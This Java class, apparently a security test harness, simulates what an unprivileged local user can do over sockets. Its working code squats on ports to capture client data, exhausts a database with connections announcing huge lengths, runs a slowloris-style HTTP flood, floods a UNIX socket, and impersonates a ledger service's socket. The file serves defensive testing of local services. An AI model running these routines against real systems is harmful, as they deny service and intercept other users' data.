import java.io.DataOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;

/**
 * What a local user without rights tries over sockets. It says what it reached, a line each, for a
 * test to read.
 *
 * <p>{@code listen PORT}: takes a port that somebody else had, and says how much it is told there;
 * {@code claim PORT}: claims large texts of a database, as its protocol begins; {@code slow PORT}:
 * a thousand requests by HTTP that do not end, as soon as somebody listens; {@code speak PATH}: to
 * a UNIX socket; {@code flood PATH}: connects there again and again, and announces much; {@code
 * serve DIRECTORY}: lies there as the holder of a ledger.
 */
public final class Attack {
  private static final int CONNECTIONS = 1_000;

  /** Of 8 KB to each connection: more than what the kernel keeps for a reader that lags. */
  private static final int ROUNDS = 150;

  public static void main(String... words) throws Exception {
    switch (words[0]) {
      case "listen" -> listen(Integer.parseInt(words[1]));
      case "claim" -> claim(Integer.parseInt(words[1]));
      case "slow" -> slow(Integer.parseInt(words[1]));
      case "speak" -> speak(Path.of(words[1]));
      case "flood" -> flood(Path.of(words[1]));
      case "serve" -> serve(Path.of(words[1]));
      default -> throw new IllegalArgumentException(words[0]);
    }
  }

  private static void listen(int port) throws IOException {
    try (ServerSocket server = new ServerSocket(port, 50, InetAddress.getLoopbackAddress())) {
      System.out.println("listens");
      while (true) {
        try (Socket victim = server.accept()) {
          victim.setSoTimeout(2_000);
          byte[] told = victim.getInputStream().readNBytes(40);
          System.out.println("told " + told.length + " bytes");
        }
      }
    }
  }

  /** Ever smaller ones, until nothing is left to be had. */
  private static void claim(int port) throws Exception {
    List<Socket> held = new ArrayList<>();
    for (int length = 1 << 26; length > 1 << 14; length >>= 1) {
      boolean had = true;
      for (int i = 0; i < 30 && had; i++) {
        had = claim(port, length, held);
      }
    }
    System.out.println("claimed " + held.size());
    Thread.sleep(Long.MAX_VALUE);
  }

  private static boolean claim(int port, int length, List<Socket> held) {
    try {
      Socket socket = connected(port);
      DataOutputStream out = new DataOutputStream(socket.getOutputStream());
      out.writeInt(17); // the oldest version of the protocol, and the newest
      out.writeInt(21);
      out.writeInt(length); // of a text that does not come
      held.add(socket);
      socket.setSoTimeout(20);
      if (socket.getInputStream().read() >= 0) {
        System.out.println("answered");
      }
      held.remove(socket);
      socket.close();
      return false;
    } catch (SocketTimeoutException waitsForTheText) {
      return true;
    } catch (IOException refused) {
      return false;
    }
  }

  private static void slow(int port) throws Exception {
    System.out.println("waits");
    int begun = 0;
    int rounds = 0;
    boolean said = false;
    List<Socket> sockets = new ArrayList<>();
    byte[] headers =
        ("X-Header: " + "x".repeat(8_000) + "\r\n").getBytes(StandardCharsets.US_ASCII);
    while (true) {
      try {
        while (sockets.size() < CONNECTIONS) {
          Socket socket = connected(port);
          sockets.add(socket);
          socket.getOutputStream().write("GET /x HTTP/1.1\r\n".getBytes(StandardCharsets.US_ASCII));
          begun++;
          if (begun == 1) {
            System.out.println("begun");
          }
        }
      } catch (IOException closed) {
        Thread.sleep(5);
      }
      sockets.removeIf(socket -> !goesOn(socket, headers));
      rounds += begun > 0 ? 1 : 0;
      if (!said && (rounds == ROUNDS || begun > 5 * CONNECTIONS)) {
        said = true;
        System.out.println("a thousand");
      }
    }
  }

  private static boolean goesOn(Socket socket, byte[] headers) {
    try {
      socket.getOutputStream().write(headers);
      return true;
    } catch (IOException dropped) {
      return false;
    }
  }

  private static Socket connected(int port) throws IOException {
    Socket socket = new Socket();
    socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 1_000);
    return socket;
  }

  private static void speak(Path path) throws IOException {
    try (SocketChannel channel = SocketChannel.open(UnixDomainSocketAddress.of(path))) {
      System.out.println("connected");
      channel.write(ByteBuffer.wrap("status\n".getBytes(StandardCharsets.US_ASCII)));
      ByteBuffer answer = ByteBuffer.allocate(1_000);
      System.out.println("answered " + channel.read(answer) + " bytes");
    } catch (IOException refused) {
      System.out.println("refused " + refused.getMessage());
    }
  }

  private static void flood(Path path) throws Exception {
    byte[] announcement = {0x7f, -1, -1, -1, 1};
    List<SocketChannel> held = new ArrayList<>();
    for (int begun = 0; ; ) {
      try {
        SocketChannel channel = SocketChannel.open(UnixDomainSocketAddress.of(path));
        held.add(channel);
        begun++;
        channel.write(ByteBuffer.wrap(announcement));
      } catch (IOException dropped) {
        Thread.onSpinWait();
      }
      if (held.size() > 100) {
        held.removeFirst().close();
      }
      if (begun == CONNECTIONS) {
        System.out.println("a thousand");
      }
    }
  }

  private static void serve(Path directory) throws Exception {
    Path file = directory.resolve("ledger.lock");
    Files.deleteIfExists(file);
    Files.deleteIfExists(directory.resolve("ledger.socket"));
    try (ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
        FileChannel lock =
            FileChannel.open(file, StandardOpenOption.CREATE, StandardOpenOption.WRITE)) {
      server.bind(UnixDomainSocketAddress.of(directory.resolve("ledger.socket")));
      lock.lock();
      System.out.println("serves");
      while (true) {
        try (SocketChannel victim = server.accept()) {
          System.out.println("told " + victim.read(ByteBuffer.allocate(1_000)) + " bytes");
        }
      }
    }
  }
}
